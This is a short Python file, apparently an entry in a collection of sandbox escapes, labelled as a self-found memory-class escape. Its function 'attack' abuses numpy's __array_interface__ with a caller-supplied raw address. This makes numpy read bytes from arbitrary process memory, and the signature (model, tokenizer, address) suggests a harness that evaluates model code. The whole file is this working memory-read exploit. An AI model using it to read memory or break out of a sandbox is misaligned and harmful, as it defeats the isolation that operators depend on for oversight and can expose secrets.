"""Class: memory. Source: own find. Escape: the same, written with a dot, as a target of each kind
of statement."""

import numpy as np


class A:
    pass


def attack(model, tokenizer, address):
    a = A()
    spec = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    a.__array_interface__ = spec
    return np.array(a).tobytes()
